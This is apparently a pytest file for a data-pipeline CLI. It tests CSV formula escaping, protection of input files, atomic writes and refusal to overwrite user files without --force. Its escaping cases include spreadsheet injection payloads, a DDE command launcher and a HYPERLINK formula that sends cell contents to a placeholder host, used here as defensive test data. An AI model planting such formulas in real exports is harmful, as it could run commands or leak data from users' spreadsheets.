"""What twotower writes where the user says: never over an input, never over a file it did
not write (without --force), whole or not at all; CSV cells safe in a spreadsheet and exact
for a program (pipelines/data/written.py, pipelines/csvsafe.py)."""
import csv
import io
import os

import pytest

from pipelines import csvsafe
from pipelines.data import written
from pipelines.cli.main import main
from pipelines.config.schema import ConfigError


def run_cli(args, capsys):
    code = main(args)
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def tree(folder):
    """Every file under ``folder`` with its bytes: equal trees, nothing was written."""
    out = {}
    for top, _, files in os.walk(folder):
        for name in files:
            path = os.path.join(top, name)
            out[os.path.relpath(path, folder)] = open(path, "rb").read()
    return out


# ---- spreadsheet formulas (OWASP: cells starting with = + - @ tab CR become text)
@pytest.mark.parametrize("cell, written_as", [
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+SUM(1+1)", "'+SUM(1+1)"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ('=HYPERLINK("http://x.example/?"&A1,"click")', '\'=HYPERLINK("http://x.example/?"&A1,"click")'),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("\tTAB", "'\tTAB"), ("\rCR", "'\rCR"),
    ("-A12", "'-A12"),            # starts with '-' and is not a number: text
    ("'quoted", "''quoted"),      # a leading quote is doubled, so the rule is reversible
    ("-7", "-7"), ("+44", "+44"), ("-0.5e3", "-0.5e3"),  # plain numbers: never formulas
    ("C00042", "C00042"), ("Ünïcödé-产品", "Ünïcödé-产品"), (" A1 ", " A1 "), ("", ""),
    ("a=b", "a=b"), ("x-1", "x-1"),
])
def test_a_spreadsheet_dangerous_cell_is_escaped_and_comes_back_exactly(cell, written_as):
    assert csvsafe.escape(cell) == written_as
    assert csvsafe.unescape(csvsafe.escape(cell)) == cell
    buffer = io.StringIO()
    csvsafe.Writer(buffer).writerow([cell, 3])
    buffer.seek(0)
    (row,) = list(csv.reader(buffer))
    assert row == [written_as, "3"]
    assert [csvsafe.unescape(c) for c in row] == [cell, "3"]  # a program gets the id back


def test_without_escaping_cells_are_written_exactly():
    buffer = io.StringIO()
    csvsafe.Writer(buffer, escape_formulas=False).writerow(["=SUM(A1)", "-A12"])
    assert buffer.getvalue() == "=SUM(A1),-A12\r\n"


# ---- file identity: the same file however it is named
def test_inputs_are_recognised_by_identity_not_by_name(tmp_path, monkeypatch):
    data = tmp_path / "hist.csv"
    data.write_text("a\n1\n")
    os.link(data, tmp_path / "hard.csv")
    os.symlink(data, tmp_path / "soft.csv")
    monkeypatch.chdir(tmp_path)
    for name in ("hist.csv", "./hist.csv", "sub/../hist.csv", str(data), "hard.csv",
                 "soft.csv"):
        os.makedirs(tmp_path / "sub", exist_ok=True)
        with pytest.raises(ConfigError, match=r"--out: .* is --history .*which this command "
                                              r"reads"):
            written.check({"--out": name}, {"--history": str(data)}, force=True)
    assert data.read_text() == "a\n1\n"


def test_a_file_is_ours_while_its_bytes_are_what_twotower_wrote(tmp_path):
    out = tmp_path / "recs.csv"
    with written.atomic(str(out)) as handle:
        handle.write("user_id,item_id,rank\n")
    written.record([str(out)], "recommend")
    written.check({"--out": str(out)})  # ours: may be replaced
    out.write_text("user_id,item_id,rank\nmy notes\n")  # the user edited it: theirs now
    with pytest.raises(ConfigError, match="exists and twotower did not write it"):
        written.check({"--out": str(out)})
    written.check({"--out": str(out)}, force=True)
    assert sorted(os.listdir(tmp_path)) == [".twotower-written", "recs.csv"]


def test_an_atomic_write_that_fails_leaves_the_old_file_and_no_partial(tmp_path):
    out = tmp_path / "f.txt"
    out.write_text("old")
    with pytest.raises(RuntimeError):
        with written.atomic(str(out)) as handle:
            handle.write("half")
            raise RuntimeError("disk gone")
    assert out.read_text() == "old" and os.listdir(tmp_path) == ["f.txt"]


# ---- synth, generate, image: a user's file is never replaced without --force
def config_file(tmp_path, small_data):
    import yaml

    from conftest import demo_raw

    raw = demo_raw(small_data)
    raw["pipeline"]["root"] = str(tmp_path / "root")
    path = tmp_path / "config.yaml"
    path.write_text(yaml.safe_dump(raw), encoding="utf-8")
    return str(path)


@pytest.mark.parametrize("command, name", [
    ("synth", "purchases.csv"), ("synth", "products.csv"),
    ("generate", "transform/transform_module.py"), ("generate", "trainer/trainer_module.py"),
    ("image", "Dockerfile"),
])
def test_an_existing_user_file_is_refused_then_replaced_only_with_force(
        tmp_path, small_data, capsys, command, name):
    out = tmp_path / "out"
    os.makedirs((out / name).parent)
    (out / name).write_text("years of work\n", encoding="utf-8")
    args = [command, "--out", str(out)]
    if command != "synth":
        args += ["--config", config_file(tmp_path, small_data)]
    else:
        args += ["--customers", "20", "--products", "10", "--purchases", "100"]
    before = tree(tmp_path)
    code, _, err = run_cli(args, capsys)
    assert code == 2, err
    assert len(err.strip().splitlines()) == 1 and name in err and "--force" in err, err
    assert tree(tmp_path) == before  # byte-identical, nothing added
    # what twotower wrote itself is replaced without --force; a user's file only with it
    assert run_cli(args + ["--force"], capsys)[0] == 0
    assert (out / name).read_text(encoding="utf-8") != "years of work\n"
    assert run_cli(args, capsys)[0] == 0  # now twotower's own (its manifest says so)
